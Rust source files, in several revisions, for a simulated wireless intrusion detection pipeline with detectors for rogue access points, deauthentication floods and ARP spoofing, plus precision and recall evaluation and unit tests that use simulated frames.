        let s1 = p.new_sensor_id();
        p.sensor_ring(s1).push(beacon(300, corp, "CORP", 6, 1));
        p.sensor_ring(s0).push(beacon(250, corp, "CORP", 6, 0));
        assert_eq!(p.step(SimTime::from_millis(400)), 2);
        let inc = p.first_incident(IncidentCategory::RogueAp).unwrap();
        assert_eq!(inc.opened_at, SimTime::from_millis(250));
    }

    #[test]
    fn serial_and_sharded_engines_agree() {
        let corp = MacAddr::local(1);
        let mk = |engine| {
            WidsPipeline::new(WidsConfig {
                authorized_aps: vec![(corp, 1)],
                engine,
                ..WidsConfig::default()
            })
        };
        let mut serial = mk(EngineMode::Serial);
        let mut sharded = mk(EngineMode::Sharded {
            shards: 16,
            batch: 3,
        });
        // A mixed stream: registered AP, a spoof on the wrong channel,
        // a twin, ordinary data traffic.
        let mut events = Vec::new();
        for i in 0..200u64 {
            events.push(beacon(i * 20, corp, "CORP", 1, 0));
            if i % 3 == 0 {
                events.push(beacon(i * 20 + 5, corp, "CORP", 6, 1));
            }
            if i % 7 == 0 {
                events.push(beacon(i * 20 + 9, MacAddr::local(9), "CORP", 11, 0));
            }
        }
        for p in [&mut serial, &mut sharded] {
            for ev in &events {
                p.ring.push(ev.clone());
            }
            while !p.ring.is_empty() {
                p.step(SimTime::from_secs(10));
            }
        }
        assert_eq!(serial.incidents().len(), sharded.incidents().len());
        for (a, b) in serial.incidents().iter().zip(sharded.incidents()) {
            assert_eq!(a.subject, b.subject);
            assert_eq!(a.opened_at, b.opened_at);
            assert_eq!(a.score, b.score, "bit-identical fused scores");
            assert_eq!(a.alerts_fused, b.alerts_fused);
            assert_eq!(a.detectors, b.detectors);
        }
        assert_eq!(
            serial.metrics().counter("wids.alerts_raw"),
            sharded.metrics().counter("wids.alerts_raw")
        );
    }
}
