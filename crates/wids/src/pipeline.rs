//! The WIDS pipeline: sensors -> ring -> detectors -> correlator.
//!
//! The pipeline is stepped from the outside, in lockstep with the
//! simulation: run a slice, let each sensor drain into the ring, then
//! [`WidsPipeline::step`] dispatches everything buffered. Events from
//! different sensors arrive as concatenated per-sensor batches; the step
//! stable-sorts them by timestamp so detectors always see one globally
//! time-ordered stream, identically on every run — determinism is a
//! property of the pipeline, not of sensor polling order.

use rogue_detect::seqmon::SeqMonConfig;
use rogue_dot11::MacAddr;
use rogue_netstack::Ipv4Addr;
use rogue_sim::trace::Metrics;
use rogue_sim::SimTime;

use crate::correlate::{Correlator, CorrelatorConfig, Incident, IncidentCategory};
use crate::detector::{Detector, RawAlert};
use crate::detectors::arp::{ArpSpoofConfig, ArpSpoofDetector};
use crate::detectors::beacon::{BeaconConfig, BeaconDetector};
use crate::detectors::deauth::{DeauthFloodConfig, DeauthFloodDetector};
use crate::detectors::rssi::{RssiSplitConfig, RssiSplitDetector};
use crate::detectors::seq::SeqControlDetector;
use crate::event::{SensorId, SensorRing};

/// Whole-pipeline configuration.
#[derive(Clone, Debug)]
pub struct WidsConfig {
    /// Bounded ring capacity between sensors and detectors.
    pub ring_capacity: usize,
    /// Authorized (BSSID, channel) registry for the beacon detector.
    pub authorized_aps: Vec<(MacAddr, u8)>,
    /// Trusted wired IP -> MAC bindings for the ARP detector.
    pub trusted_bindings: Vec<(Ipv4Addr, MacAddr)>,
    /// Sequence-control monitor tuning.
    pub seqmon: SeqMonConfig,
    /// Deauth-flood tuning.
    pub deauth: DeauthFloodConfig,
    /// RSSI-consistency tuning.
    pub rssi: RssiSplitConfig,
    /// ARP-spoof tuning.
    pub arp: ArpSpoofConfig,
    /// Correlation tuning.
    pub correlator: CorrelatorConfig,
}

impl Default for WidsConfig {
    fn default() -> Self {
        WidsConfig {
            ring_capacity: 4096,
            authorized_aps: Vec::new(),
            trusted_bindings: Vec::new(),
            seqmon: SeqMonConfig::default(),
            deauth: DeauthFloodConfig::default(),
            rssi: RssiSplitConfig::default(),
            arp: ArpSpoofConfig::default(),
            correlator: CorrelatorConfig::default(),
        }
    }
}

/// The assembled intrusion-detection pipeline.
pub struct WidsPipeline {
    /// Sensors push digested events here between steps.
    pub ring: SensorRing,
    detectors: Vec<Box<dyn Detector>>,
    correlator: Correlator,
    metrics: Metrics,
    next_sensor: u16,
    drops_reported: u64,
    scratch: Vec<RawAlert>,
    /// Simulation time of the most recent [`WidsPipeline::step`].
    pub last_step_at: SimTime,
}

impl WidsPipeline {
    /// Pipeline with the standard five-detector suite.
    pub fn new(cfg: WidsConfig) -> WidsPipeline {
        let mut arp = ArpSpoofDetector::new(cfg.arp);
        for (ip, mac) in &cfg.trusted_bindings {
            arp.trust(*ip, *mac);
        }
        let detectors: Vec<Box<dyn Detector>> = vec![
            Box::new(SeqControlDetector::new(cfg.seqmon)),
            Box::new(BeaconDetector::new(BeaconConfig {
                authorized: cfg.authorized_aps,
            })),
            Box::new(DeauthFloodDetector::new(cfg.deauth)),
            Box::new(RssiSplitDetector::new(cfg.rssi)),
            Box::new(arp),
        ];
        WidsPipeline {
            ring: SensorRing::new(cfg.ring_capacity),
            detectors,
            correlator: Correlator::new(cfg.correlator),
            metrics: Metrics::default(),
            next_sensor: 0,
            drops_reported: 0,
            scratch: Vec::new(),
            last_step_at: SimTime::ZERO,
        }
    }

    /// Register an additional detector behind the standard suite.
    pub fn push_detector(&mut self, d: Box<dyn Detector>) {
        self.detectors.push(d);
    }

    /// Allocate the next sensor identity.
    pub fn new_sensor_id(&mut self) -> SensorId {
        let id = SensorId(self.next_sensor);
        self.next_sensor += 1;
        id
    }

    /// Dispatch everything buffered in the ring through the detector
    /// suite and the correlator. Returns how many events were processed.
    pub fn step(&mut self, now: SimTime) -> usize {
        self.last_step_at = now;
        self.metrics.incr("wids.steps");
        let mut events = self.ring.drain();
        // Per-sensor batches are each time-ordered; a stable sort makes
        // the merged stream deterministic regardless of drain order.
        events.sort_by_key(|e| e.at());
        let n = events.len();
        self.metrics.add("wids.events", n as u64);
        let new_drops = self.ring.dropped - self.drops_reported;
        if new_drops > 0 {
            self.metrics.add("wids.ring_dropped", new_drops);
            self.drops_reported = self.ring.dropped;
        }
        for ev in &events {
            for det in &mut self.detectors {
                det.on_event(ev, &mut self.scratch);
            }
            for alert in self.scratch.drain(..) {
                self.correlator.ingest(&alert, &mut self.metrics);
            }
        }
        n
    }

    /// Incidents opened so far, in opening order.
    pub fn incidents(&self) -> &[Incident] {
        self.correlator.incidents()
    }

    /// Earliest incident of a category, if any.
    pub fn first_incident(&self, category: IncidentCategory) -> Option<&Incident> {
        self.incidents().iter().find(|i| i.category == category)
    }

    /// Pipeline metrics (alert/incident counters, score histogram).
    pub fn metrics(&self) -> &Metrics {
        &self.metrics
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{Dot11Event, Dot11Kind, SensorEvent};

    fn beacon(ms: u64, bssid: MacAddr, ssid: &str, channel: u8, sensor: u16) -> SensorEvent {
        SensorEvent::Dot11(Dot11Event {
            sensor: SensorId(sensor),
            at: SimTime::from_millis(ms),
            channel,
            rssi_dbm: -40.0,
            ta: bssid,
            ra: MacAddr::BROADCAST,
            bssid,
            seq: (ms % 4096) as u16,
            retry: false,
            kind: Dot11Kind::Beacon {
                ssid: ssid.into(),
                claimed_channel: channel,
                capability: 0,
            },
        })
    }

    #[test]
    fn spoofed_bssid_becomes_a_rogue_ap_incident() {
        let corp = MacAddr::local(1);
        let mut p = WidsPipeline::new(WidsConfig {
            authorized_aps: vec![(corp, 1)],
            ..WidsConfig::default()
        });
        p.ring.push(beacon(0, corp, "CORP", 1, 0));
        p.ring.push(beacon(100, corp, "CORP", 6, 1));
        assert_eq!(p.step(SimTime::from_millis(200)), 2);
        let inc = p
            .first_incident(IncidentCategory::RogueAp)
            .expect("incident");
        assert_eq!(inc.subject, corp);
        assert_eq!(p.metrics().counter("wids.incidents_opened"), 1);
    }

    #[test]
    fn step_orders_events_across_sensors() {
        let corp = MacAddr::local(1);
        let mut p = WidsPipeline::new(WidsConfig {
            authorized_aps: vec![(corp, 1)],
            ..WidsConfig::default()
        });
        // Sensor 1's batch lands in the ring before sensor 0's earlier
        // capture; the incident must still open at the true first sight.
        p.ring.push(beacon(300, corp, "CORP", 6, 1));
        p.ring.push(beacon(250, corp, "CORP", 6, 0));
        p.step(SimTime::from_millis(400));
        let inc = p.first_incident(IncidentCategory::RogueAp).unwrap();
        assert_eq!(inc.opened_at, SimTime::from_millis(250));
    }

    #[test]
    fn sensor_ids_are_dense() {
        let mut p = WidsPipeline::new(WidsConfig::default());
        assert_eq!(p.new_sensor_id(), SensorId(0));
        assert_eq!(p.new_sensor_id(), SensorId(1));
        assert_eq!(p.new_sensor_id(), SensorId(2));
    }
}
