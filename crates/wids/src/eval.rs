//! Ground-truth evaluation: precision, recall, detection latency.
//!
//! An experiment that scripts its attacks knows exactly what the WIDS
//! *should* have found. Each scripted attack becomes a [`TruthLabel`];
//! [`evaluate`] matches opened incidents against the labels:
//!
//! * an incident matching a label (category, optional subject, opened
//!   inside the label's active window plus a grace period) is a **true
//!   positive**, and its latency is `opened_at - label.start`;
//! * an incident matching no label is a **false positive**;
//! * a label no incident matched is a **false negative** (a miss).

use rogue_dot11::MacAddr;
use rogue_sim::{SimDuration, SimTime};

use crate::correlate::{Incident, IncidentCategory};

/// One scripted attack the WIDS is expected to catch.
#[derive(Clone, Debug)]
pub struct TruthLabel {
    /// Expected incident category.
    pub category: IncidentCategory,
    /// Expected offending address, when the scenario pins one down
    /// (`None` accepts any subject — e.g. a flooder forging many).
    pub subject: Option<MacAddr>,
    /// Attack start (latency baseline).
    pub start: SimTime,
    /// Attack end.
    pub end: SimTime,
}

impl TruthLabel {
    /// Label expecting `category` against `subject` over [start, end].
    pub fn new(
        category: IncidentCategory,
        subject: Option<MacAddr>,
        start: SimTime,
        end: SimTime,
    ) -> TruthLabel {
        TruthLabel {
            category,
            subject,
            start,
            end,
        }
    }
}

/// Scored outcome of one evaluation run.
#[derive(Clone, Debug, Default)]
pub struct EvalOutcome {
    /// Incidents matched to a label.
    pub true_positives: u32,
    /// Incidents matching no label.
    pub false_positives: u32,
    /// Labels no incident matched.
    pub false_negatives: u32,
    /// Detection latencies of the true positives, seconds.
    pub latencies_secs: Vec<f64>,
}

impl EvalOutcome {
    /// TP / (TP + FP); 1.0 when nothing was flagged.
    pub fn precision(&self) -> f64 {
        let flagged = self.true_positives + self.false_positives;
        if flagged == 0 {
            1.0
        } else {
            self.true_positives as f64 / flagged as f64
        }
    }

    /// TP / (TP + FN); 1.0 when nothing was expected.
    pub fn recall(&self) -> f64 {
        let expected = self.true_positives + self.false_negatives;
        if expected == 0 {
            1.0
        } else {
            self.true_positives as f64 / expected as f64
        }
    }

    /// Median detection latency in seconds, NaN when nothing matched.
    pub fn median_latency_secs(&self) -> f64 {
        if self.latencies_secs.is_empty() {
            return f64::NAN;
        }
        let mut v = self.latencies_secs.clone();
        v.sort_by(|a, b| a.partial_cmp(b).unwrap());
        let mid = v.len() / 2;
        if v.len() % 2 == 1 {
            v[mid]
        } else {
            (v[mid - 1] + v[mid]) / 2.0
        }
    }

    /// Fold another run's counts into this one.
    pub fn merge(&mut self, other: &EvalOutcome) {
        self.true_positives += other.true_positives;
        self.false_positives += other.false_positives;
        self.false_negatives += other.false_negatives;
        self.latencies_secs.extend_from_slice(&other.latencies_secs);
    }
}

/// Does this incident satisfy this label?
fn matches(inc: &Incident, label: &TruthLabel, grace: SimDuration) -> bool {
    if inc.category != label.category {
        return false;
    }
    if let Some(subject) = label.subject {
        if inc.subject != subject {
            return false;
        }
    }
    // Opened while the attack was active (grace absorbs windowed
    // detectors crossing their threshold just after the attack stops).
    inc.opened_at >= label.start && inc.opened_at <= label.end + grace
}

/// Score `incidents` against the scripted ground truth.
///
/// Greedy earliest-first matching: each incident claims the first label
/// it satisfies; each label is credited at most once (extra incidents on
/// an already-matched label are neither TPs nor FPs — the detection
/// already happened — but a *different-subject* duplicate finds no label
/// and counts against precision).
pub fn evaluate(incidents: &[Incident], labels: &[TruthLabel], grace: SimDuration) -> EvalOutcome {
    let mut out = EvalOutcome::default();
    let mut claimed = vec![false; labels.len()];
    for inc in incidents {
        let mut hit = None;
        for (i, label) in labels.iter().enumerate() {
            if matches(inc, label, grace) {
                hit = Some(i);
                if !claimed[i] {
                    claimed[i] = true;
                    out.true_positives += 1;
                    out.latencies_secs
                        .push(inc.opened_at.as_secs_f64() - label.start.as_secs_f64());
                }
                break;
            }
        }
        if hit.is_none() {
            out.false_positives += 1;
        }
    }
    out.false_negatives = claimed.iter().filter(|&&c| !c).count() as u32;
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn incident(ms: u64, category: IncidentCategory, subject: MacAddr) -> Incident {
        Incident {
            id: 0,
            category,
            subject,
            opened_at: SimTime::from_millis(ms),
            last_evidence_at: SimTime::from_millis(ms),
            score: 0.9,
            alerts_fused: 1,
            detectors: vec!["test"],
        }
    }

    #[test]
    fn perfect_run_scores_perfectly() {
        let rogue = MacAddr::local(9);
        let labels = [TruthLabel::new(
            IncidentCategory::RogueAp,
            Some(rogue),
            SimTime::from_secs(2),
            SimTime::from_secs(10),
        )];
        let incidents = [incident(2500, IncidentCategory::RogueAp, rogue)];
        let out = evaluate(&incidents, &labels, SimDuration::ZERO);
        assert_eq!(out.true_positives, 1);
        assert_eq!(out.false_positives, 0);
        assert_eq!(out.false_negatives, 0);
        assert!((out.precision() - 1.0).abs() < 1e-9);
        assert!((out.recall() - 1.0).abs() < 1e-9);
        assert!((out.median_latency_secs() - 0.5).abs() < 1e-9);
    }

    #[test]
    fn unexpected_incident_is_a_false_positive() {
        let incidents = [incident(
            100,
            IncidentCategory::DeauthFlood,
            MacAddr::local(3),
        )];
        let out = evaluate(&incidents, &[], SimDuration::ZERO);
        assert_eq!(out.false_positives, 1);
        assert!((out.precision() - 0.0).abs() < 1e-9);
        assert!((out.recall() - 1.0).abs() < 1e-9, "nothing was expected");
    }

    #[test]
    fn missed_label_is_a_false_negative() {
        let labels = [TruthLabel::new(
            IncidentCategory::ArpSpoof,
            None,
            SimTime::from_secs(3),
            SimTime::from_secs(10),
        )];
        let out = evaluate(&[], &labels, SimDuration::ZERO);
        assert_eq!(out.false_negatives, 1);
        assert!((out.recall() - 0.0).abs() < 1e-9);
        assert!(out.median_latency_secs().is_nan());
    }

    #[test]
    fn repeat_detection_of_one_attack_is_not_penalized() {
        let rogue = MacAddr::local(9);
        let labels = [TruthLabel::new(
            IncidentCategory::RogueAp,
            Some(rogue),
            SimTime::from_secs(1),
            SimTime::from_secs(10),
        )];
        let incidents = [
            incident(1500, IncidentCategory::RogueAp, rogue),
            incident(4000, IncidentCategory::RogueAp, rogue),
        ];
        let out = evaluate(&incidents, &labels, SimDuration::ZERO);
        assert_eq!(out.true_positives, 1);
        assert_eq!(out.false_positives, 0);
    }

    #[test]
    fn wrong_subject_counts_against_precision() {
        let rogue = MacAddr::local(9);
        let labels = [TruthLabel::new(
            IncidentCategory::RogueAp,
            Some(rogue),
            SimTime::from_secs(1),
            SimTime::from_secs(10),
        )];
        let incidents = [incident(
            1500,
            IncidentCategory::RogueAp,
            MacAddr::local(77),
        )];
        let out = evaluate(&incidents, &labels, SimDuration::ZERO);
        assert_eq!(out.true_positives, 0);
        assert_eq!(out.false_positives, 1);
        assert_eq!(out.false_negatives, 1);
    }

    #[test]
    fn grace_admits_detections_just_after_the_attack() {
        let labels = [TruthLabel::new(
            IncidentCategory::DeauthFlood,
            None,
            SimTime::from_secs(1),
            SimTime::from_secs(2),
        )];
        let incidents = [incident(
            2400,
            IncidentCategory::DeauthFlood,
            MacAddr::local(3),
        )];
        let strict = evaluate(&incidents, &labels, SimDuration::ZERO);
        assert_eq!(strict.true_positives, 0);
        let lax = evaluate(&incidents, &labels, SimDuration::from_millis(500));
        assert_eq!(lax.true_positives, 1);
    }

    #[test]
    fn merge_accumulates_counts() {
        let mut a = EvalOutcome {
            true_positives: 2,
            false_positives: 1,
            false_negatives: 0,
            latencies_secs: vec![0.5, 1.0],
        };
        let b = EvalOutcome {
            true_positives: 1,
            false_positives: 0,
            false_negatives: 1,
            latencies_secs: vec![2.0],
        };
        a.merge(&b);
        assert_eq!(a.true_positives, 3);
        assert_eq!(a.false_negatives, 1);
        assert!((a.median_latency_secs() - 1.0).abs() < 1e-9);
        assert!((a.precision() - 0.75).abs() < 1e-9);
    }
}
