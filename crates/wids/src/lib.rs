//! rogue-wids: a streaming wireless intrusion detection subsystem.
//!
//! The paper's countermeasures chapter assumes an administrator who
//! *notices* the rogue — good record keeping, a site auditor walking the
//! halls, a wired-side MAC census. This crate turns those one-shot
//! audits into an always-on pipeline over the live simulation:
//!
//! ```text
//!  radio sniffers ──> RadioSensor ─┐  per-sensor shard rings
//!                                  ├─> time-sorted merge ─> Detector engine ─> Correlator ─> Incidents
//!  switch span ────> WiredSensor ──┘       (bounded)       (serial|sharded)    (dedup+fuse)    (scored)
//! ```
//!
//! * [`event`] — the unified [`event::SensorEvent`] stream and the
//!   bounded, drop-counting [`event::SensorRing`] between sensors and
//!   the pipeline.
//! * [`sensors`] — taps that digest capture substrates into events:
//!   [`sensors::RadioSensor`] over monitor-mode sniffer buffers,
//!   [`sensors::WiredSensor`] over a switch span port.
//! * [`detector`] — the pluggable [`detector::Detector`] trait and
//!   [`detector::RawAlert`] evidence type.
//! * [`detectors`] — the built-in suite: sequence-control anomalies,
//!   beacon/BSSID auditing (incl. churn), deauth floods (burst and
//!   pulsed), RSSI consistency, ARP spoof, probe-response auditing
//!   (cloaked twins, karma responders).
//! * [`sketch`] — the bounded state substrates (windowed count-min
//!   sketches, set-associative tables) keeping detector memory fixed
//!   under address-randomizing attackers.
//! * [`correlate`] — dedup and noisy-or fusion of raw alerts into
//!   scored [`correlate::Incident`]s.
//! * [`eval`] — precision / recall / latency scoring against scripted
//!   ground truth, for the E10 harness.
//! * [`pipeline`] — [`pipeline::WidsPipeline`] wiring it all together,
//!   stepped in lockstep with the simulation. [`pipeline::EngineMode`]
//!   selects per-frame serial dispatch or the sharded batched engine;
//!   the two are bit-identical by construction.

pub mod correlate;
pub mod detector;
pub mod detectors;
pub mod eval;
pub mod event;
pub mod pipeline;
pub mod sensors;
pub mod sketch;

mod block;

pub use correlate::{Correlator, CorrelatorConfig, Incident, IncidentCategory};
pub use detector::{AlertKind, Detector, RawAlert};
pub use detectors::{
    ArpSpoofDetector, BeaconDetector, DeauthFloodDetector, ProbeAuditDetector, RssiSplitDetector,
    SeqControlDetector,
};
pub use eval::{evaluate, EvalOutcome, TruthLabel};
pub use event::{ArpEvent, Dot11Event, Dot11Kind, SensorEvent, SensorId, SensorRing};
pub use pipeline::{EngineMode, WidsConfig, WidsPipeline};
pub use sensors::{RadioSensor, WiredSensor};
