//! Deauthentication-flood detection.
//!
//! Deauth is unauthenticated (the paper's §4 primitive), so a burst of
//! deauthentication frames "from" one address is evidence of forgery —
//! either an attacker breaking a sticky association or a containment
//! system at work. Legitimate disconnects are rare and isolated; the
//! detector counts deauths per claimed transmitter in a sliding window.
//!
//! Counting lives in [`WindowCounter`] sketches, so memory is fixed no
//! matter how many forged transmitter addresses appear. Two horizons run
//! side by side:
//!
//! * the **short window** catches the classic burst flood;
//! * the **long window** catches *pulsed* floods — short bursts spaced
//!   so the short window never fills, but whose long-run rate is still
//!   far beyond anything legitimate. Once a transmitter has a burst
//!   alert the pulsed check stays quiet for it: the long horizon adds
//!   nothing the burst did not already say.

use rogue_sim::SimDuration;

use crate::detector::{AlertKind, Detector, RawAlert};
use crate::event::{Dot11Kind, SensorEvent};
use crate::sketch::{hash_mac, BoundedTable, WindowCounter};

const FLAG_GROUPS: usize = 4096;
const FLAG_WAYS: usize = 4;

/// Flood tuning.
#[derive(Clone, Debug)]
pub struct DeauthFloodConfig {
    /// Deauths within [`DeauthFloodConfig::window`] needed to alert.
    pub threshold: u32,
    /// Sliding evidence window.
    pub window: SimDuration,
    /// Deauths within [`DeauthFloodConfig::pulse_window`] needed for a
    /// pulsed-flood alert when the short window never fills.
    pub pulse_threshold: u32,
    /// Long horizon for the pulsed-flood count.
    pub pulse_window: SimDuration,
}

impl Default for DeauthFloodConfig {
    fn default() -> Self {
        DeauthFloodConfig {
            threshold: 5,
            window: SimDuration::from_secs(2),
            pulse_threshold: 12,
            pulse_window: SimDuration::from_secs(20),
        }
    }
}

/// Per-transmitter once-only alert latches.
#[derive(Default)]
struct DeauthFlags {
    flood: bool,
    pulse: bool,
}

/// The flood detector.
pub struct DeauthFloodDetector {
    cfg: DeauthFloodConfig,
    short: WindowCounter,
    long: WindowCounter,
    flags: BoundedTable<rogue_dot11::MacAddr, DeauthFlags>,
    /// Deauth frames observed.
    pub deauths_seen: u64,
}

impl DeauthFloodDetector {
    /// Detector with the given tuning.
    pub fn new(cfg: DeauthFloodConfig) -> DeauthFloodDetector {
        DeauthFloodDetector {
            short: WindowCounter::new(cfg.window, 16, 1024, 4),
            long: WindowCounter::new(cfg.pulse_window, 20, 1024, 4),
            flags: BoundedTable::new(FLAG_GROUPS, FLAG_WAYS),
            cfg,
            deauths_seen: 0,
        }
    }

    /// Fixed state footprint (sketches plus latch table), in bytes.
    pub fn state_bytes(&self) -> usize {
        self.short.bytes() + self.long.bytes() + self.flags.bytes()
    }
}

impl Default for DeauthFloodDetector {
    fn default() -> Self {
        DeauthFloodDetector::new(DeauthFloodConfig::default())
    }
}

impl Detector for DeauthFloodDetector {
    fn name(&self) -> &'static str {
        "deauth-flood"
    }

    fn on_event(&mut self, ev: &SensorEvent, out: &mut Vec<RawAlert>) {
        let SensorEvent::Dot11(e) = ev else { return };
        let Dot11Kind::Deauth { reason } = e.kind else {
            return;
        };
        self.deauths_seen += 1;
        let h = hash_mac(&e.ta.0);
        let short = self.short.observe(e.at, h);
        let long = self.long.observe(e.at, h);
        let st = self.flags.entry(e.at, h, e.ta, DeauthFlags::default);
        if short >= self.cfg.threshold && !st.flood {
            st.flood = true;
            out.push(RawAlert {
                at: e.at,
                detector: "deauth-flood",
                subject: e.ta,
                kind: AlertKind::DeauthFlood,
                weight: 0.85,
                detail: format!(
                    "{short} deauths within {} (last reason {reason})",
                    self.cfg.window
                ),
            });
        } else if long >= self.cfg.pulse_threshold && !st.flood && !st.pulse {
            st.pulse = true;
            out.push(RawAlert {
                at: e.at,
                detector: "deauth-flood",
                subject: e.ta,
                kind: AlertKind::DeauthFlood,
                weight: 0.85,
                detail: format!(
                    "pulsed flood: {long} deauths within {} (last reason {reason})",
                    self.cfg.pulse_window
                ),
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{Dot11Event, SensorId};
    use rogue_dot11::MacAddr;
    use rogue_sim::SimTime;

    fn deauth(ms: u64, ta: MacAddr) -> SensorEvent {
        SensorEvent::Dot11(Dot11Event {
            sensor: SensorId(0),
            at: SimTime::from_millis(ms),
            channel: 1,
            rssi_dbm: -40.0,
            ta,
            ra: MacAddr::local(50),
            bssid: ta,
            seq: 0,
            retry: false,
            kind: Dot11Kind::Deauth { reason: 7 },
        })
    }

    #[test]
    fn flood_alerts_once() {
        let mut d = DeauthFloodDetector::default();
        let mut out = Vec::new();
        for i in 0..10u64 {
            d.on_event(&deauth(i * 150, MacAddr::local(1)), &mut out);
        }
        assert_eq!(out.len(), 1, "{out:?}");
        assert_eq!(out[0].kind, AlertKind::DeauthFlood);
        assert_eq!(out[0].at, SimTime::from_millis(600), "fifth deauth");
    }

    #[test]
    fn sparse_deauths_tolerated() {
        let mut d = DeauthFloodDetector::default();
        let mut out = Vec::new();
        for i in 0..10u64 {
            d.on_event(&deauth(i * 1000, MacAddr::local(1)), &mut out);
        }
        assert!(out.is_empty(), "one deauth per second is not a flood");
    }

    #[test]
    fn pulsed_bursts_trip_the_long_horizon() {
        let mut d = DeauthFloodDetector::default();
        let mut out = Vec::new();
        // Bursts of 4 frames 100 ms apart, one burst every 4 s: the short
        // window (5 in 2 s) never fills, the long horizon does.
        for burst in 0..5u64 {
            for i in 0..4u64 {
                d.on_event(&deauth(burst * 4000 + i * 100, MacAddr::local(1)), &mut out);
            }
        }
        assert_eq!(out.len(), 1, "{out:?}");
        assert!(out[0].detail.starts_with("pulsed flood:"), "{out:?}");
        assert_eq!(out[0].at, SimTime::from_millis(8300), "twelfth deauth");
    }

    #[test]
    fn state_is_fixed_under_forged_sources() {
        let mut d = DeauthFloodDetector::default();
        let mut out = Vec::new();
        let before = d.state_bytes();
        // 100k distinct forged transmitters, one deauth each, paced so
        // the sketch buckets stay far below both thresholds.
        for i in 0..100_000u64 {
            d.on_event(&deauth(i * 10, MacAddr::local(i + 1)), &mut out);
        }
        assert_eq!(d.state_bytes(), before, "sketches must not grow");
        assert!(out.is_empty(), "one deauth per source is not a flood");
    }
}
