//! Deauthentication-flood detection.
//!
//! Deauth is unauthenticated (the paper's §4 primitive), so a burst of
//! deauthentication frames "from" one address is evidence of forgery —
//! either an attacker breaking a sticky association or a containment
//! system at work. Legitimate disconnects are rare and isolated; the
//! detector counts deauths per claimed transmitter in a sliding window.

use std::collections::HashMap;

use rogue_dot11::MacAddr;
use rogue_sim::{SimDuration, SimTime};

use crate::detector::{AlertKind, Detector, RawAlert};
use crate::event::{Dot11Kind, SensorEvent};

/// Flood tuning.
#[derive(Clone, Debug)]
pub struct DeauthFloodConfig {
    /// Deauths within [`DeauthFloodConfig::window`] needed to alert.
    pub threshold: u32,
    /// Sliding evidence window.
    pub window: SimDuration,
}

impl Default for DeauthFloodConfig {
    fn default() -> Self {
        DeauthFloodConfig {
            threshold: 5,
            window: SimDuration::from_secs(2),
        }
    }
}

struct TaState {
    times: Vec<SimTime>,
    alerted: bool,
}

/// The flood detector.
pub struct DeauthFloodDetector {
    cfg: DeauthFloodConfig,
    per_ta: HashMap<MacAddr, TaState>,
    /// Deauth frames observed.
    pub deauths_seen: u64,
}

impl DeauthFloodDetector {
    /// Detector with the given tuning.
    pub fn new(cfg: DeauthFloodConfig) -> DeauthFloodDetector {
        DeauthFloodDetector {
            cfg,
            per_ta: HashMap::new(),
            deauths_seen: 0,
        }
    }
}

impl Default for DeauthFloodDetector {
    fn default() -> Self {
        DeauthFloodDetector::new(DeauthFloodConfig::default())
    }
}

impl Detector for DeauthFloodDetector {
    fn name(&self) -> &'static str {
        "deauth-flood"
    }

    fn on_event(&mut self, ev: &SensorEvent, out: &mut Vec<RawAlert>) {
        let SensorEvent::Dot11(e) = ev else { return };
        let Dot11Kind::Deauth { reason } = e.kind else {
            return;
        };
        self.deauths_seen += 1;
        let st = self.per_ta.entry(e.ta).or_insert(TaState {
            times: Vec::new(),
            alerted: false,
        });
        st.times.push(e.at);
        let window_start = SimTime(e.at.as_nanos().saturating_sub(self.cfg.window.as_nanos()));
        st.times.retain(|&t| t >= window_start);
        if st.times.len() as u32 >= self.cfg.threshold && !st.alerted {
            st.alerted = true;
            out.push(RawAlert {
                at: e.at,
                detector: "deauth-flood",
                subject: e.ta,
                kind: AlertKind::DeauthFlood,
                weight: 0.85,
                detail: format!(
                    "{} deauths within {} (last reason {reason})",
                    st.times.len(),
                    self.cfg.window
                ),
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{Dot11Event, SensorId};

    fn deauth(ms: u64, ta: MacAddr) -> SensorEvent {
        SensorEvent::Dot11(Dot11Event {
            sensor: SensorId(0),
            at: SimTime::from_millis(ms),
            channel: 1,
            rssi_dbm: -40.0,
            ta,
            ra: MacAddr::local(50),
            bssid: ta,
            seq: 0,
            retry: false,
            kind: Dot11Kind::Deauth { reason: 7 },
        })
    }

    #[test]
    fn flood_alerts_once() {
        let mut d = DeauthFloodDetector::default();
        let mut out = Vec::new();
        for i in 0..10u64 {
            d.on_event(&deauth(i * 150, MacAddr::local(1)), &mut out);
        }
        assert_eq!(out.len(), 1, "{out:?}");
        assert_eq!(out[0].kind, AlertKind::DeauthFlood);
        assert_eq!(out[0].at, SimTime::from_millis(600), "fifth deauth");
    }

    #[test]
    fn sparse_deauths_tolerated() {
        let mut d = DeauthFloodDetector::default();
        let mut out = Vec::new();
        for i in 0..10u64 {
            d.on_event(&deauth(i * 1000, MacAddr::local(1)), &mut out);
        }
        assert!(out.is_empty(), "one deauth per second is not a flood");
    }
}
