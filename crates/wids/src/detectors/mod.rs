//! The built-in detector suite.
//!
//! | detector | evidence | layer |
//! |---|---|---|
//! | [`seq::SeqControlDetector`] | interleaved / duplicate sequence counters, channel divergence | radio |
//! | [`beacon::BeaconDetector`] | SSID clones and BSSID spoofs against an AP registry | radio |
//! | [`deauth::DeauthFloodDetector`] | deauthentication floods | radio |
//! | [`rssi::RssiSplitDetector`] | implausible RSSI swings behind one transmitter | radio |
//! | [`arp::ArpSpoofDetector`] | conflicting / gratuitous ARP bindings | wired |

pub mod arp;
pub mod beacon;
pub mod deauth;
pub mod rssi;
pub mod seq;

pub use arp::ArpSpoofDetector;
pub use beacon::BeaconDetector;
pub use deauth::DeauthFloodDetector;
pub use rssi::RssiSplitDetector;
pub use seq::SeqControlDetector;
