//! The built-in detector suite.
//!
//! | detector | evidence | layer |
//! |---|---|---|
//! | [`seq::SeqControlDetector`] | interleaved / duplicate sequence counters, channel divergence | radio |
//! | [`beacon::BeaconDetector`] | SSID clones, BSSID spoofs, and BSSID churn against an AP registry | radio |
//! | [`deauth::DeauthFloodDetector`] | burst and pulsed deauthentication floods | radio |
//! | [`rssi::RssiSplitDetector`] | implausible RSSI swings behind one transmitter | radio |
//! | [`arp::ArpSpoofDetector`] | conflicting / gratuitous ARP bindings | wired |
//! | [`probe::ProbeAuditDetector`] | cloaked twins, karma probe responders | radio |
//!
//! Every per-source map in the suite lives on the bounded substrates in
//! [`crate::sketch`], so detector memory is fixed at construction no
//! matter how many distinct (possibly attacker-randomized) addresses the
//! sensors report.

